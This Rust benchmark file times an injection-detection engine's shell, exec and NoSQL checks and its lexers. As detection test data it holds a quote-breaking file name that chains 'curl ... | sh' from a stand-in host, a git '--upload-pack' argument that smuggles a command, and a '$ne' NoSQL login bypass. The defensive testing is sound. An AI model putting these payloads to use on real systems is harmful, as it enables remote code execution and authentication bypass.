//! Shell, exec and NoSQL check benchmarks: the per-call shapes of the performance
//! targets and lexing throughput. Numbers go to docs/performance.md.

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rampart_benches::{blocking_engine, command_with, large_command, typical_request};
use rampart_core::lex::json::JsonLexer;
use rampart_core::lex::shell::ShellLexer;

fn shell_per_call(c: &mut Criterion) {
    let engine = blocking_engine();
    let mut group = c.benchmark_group("shell_check");

    // 10 inputs, none of them in a ~200-byte command.
    let benign = typical_request(None);
    let command = command_with("photo_8812.jpg");
    group.bench_function("benign_10_inputs_not_in_command", |b| {
        b.iter(|| engine.check_shell(black_box(&benign), black_box(command.as_bytes())))
    });

    // A file name with spaces and parentheses, safely single-quoted.
    let name = "holiday photo (1) & more.jpg";
    let safe = typical_request(Some(("file", name)));
    let safe_command = command_with(name);
    group.bench_function("occurrence_inside_quotes", |b| {
        b.iter(|| engine.check_shell(black_box(&safe), black_box(safe_command.as_bytes())))
    });

    // Breaking out of the quotes to chain a download-and-run.
    let payload = "x.jpg'; curl -s http://192.0.2.1/x | sh; echo '";
    let attack = typical_request(Some(("file", payload)));
    let attack_command = command_with(payload);
    group.bench_function("attack_found", |b| {
        b.iter(|| engine.check_shell(black_box(&attack), black_box(attack_command.as_bytes())))
    });
    assert!(engine.check_shell(&attack, attack_command.as_bytes()).is_attack());
    assert!(!engine.check_shell(&safe, safe_command.as_bytes()).is_attack());
    assert!(!engine.check_shell(&benign, command.as_bytes()).is_attack());
    group.finish();
}

fn exec_per_call(c: &mut Criterion) {
    let engine = blocking_engine();
    let mut group = c.benchmark_group("exec_check");
    let argv: [&[u8]; 9] = [
        b"/usr/bin/convert",
        b"/srv/uploads/photo_8812.jpg",
        b"-auto-orient",
        b"-strip",
        b"-resize",
        b"1280x1280>",
        b"-quality",
        b"85",
        b"/srv/thumbs/photo_8812.jpg",
    ];
    let benign = typical_request(None);
    group.bench_function("benign_10_inputs_not_in_argv", |b| b.iter(|| engine.check_exec(black_box(&benign), &argv)));
    let safe = typical_request(Some(("file", "/srv/uploads/photo_8812.jpg")));
    group.bench_function("occurrence_data_argument", |b| b.iter(|| engine.check_exec(black_box(&safe), &argv)));
    let git: [&[u8]; 4] = [b"git", b"clone", b"--upload-pack=touch /tmp/pwned", b"/srv/repos/x"];
    let attack = typical_request(Some(("url", "--upload-pack=touch /tmp/pwned")));
    group.bench_function("attack_found", |b| b.iter(|| engine.check_exec(black_box(&attack), &git)));
    assert!(engine.check_exec(&attack, &git).is_attack());
    assert!(!engine.check_exec(&safe, &argv).is_attack());
    group.finish();
}

fn nosql_per_call(c: &mut Criterion) {
    let engine = blocking_engine();
    let mut group = c.benchmark_group("nosql_check");
    let filter = br#"{"email": "alice.smith@example.com", "status": {"$in": ["active", "trial"]}, "deletedAt": null}"#;
    let benign = typical_request(None);
    group.bench_function("benign_10_inputs", |b| b.iter(|| engine.check_nosql(black_box(&benign), black_box(filter))));
    let mut attack = typical_request(None);
    attack.add_input(rampart_core::Source::Body, b"password.$ne", b"");
    let login = br#"{"email": "alice.smith@example.com", "password": {"$ne": ""}}"#;
    group.bench_function("attack_found", |b| b.iter(|| engine.check_nosql(black_box(&attack), black_box(login))));
    assert!(engine.check_nosql(&attack, login).is_attack());
    assert!(!engine.check_nosql(&benign, filter).is_attack());
    group.finish();
}

fn lexing(c: &mut Criterion) {
    let mut group = c.benchmark_group("shell_lex");
    for size in [1 << 10, 64 << 10, 1 << 20] {
        let command = large_command(size);
        group.throughput(Throughput::Bytes(command.len() as u64));
        group.bench_with_input(BenchmarkId::new("sh", size), &command, |b, c| {
            b.iter(|| ShellLexer::new(black_box(c.as_bytes())).count())
        });
    }
    group.finish();
    let mut group = c.benchmark_group("json_lex");
    let json =
        format!("[{}]", r#"{"email": "a@example.com", "age": {"$gt": 18}, "tags": ["x", "y"]}, "#.repeat(16_000));
    group.throughput(Throughput::Bytes(json.len() as u64));
    group.bench_function("filters_1MB", |b| b.iter(|| JsonLexer::new(black_box(json.as_bytes())).count()));
    group.finish();
}

criterion_group!(benches, shell_per_call, exec_per_call, nosql_per_call, lexing);
criterion_main!(benches);
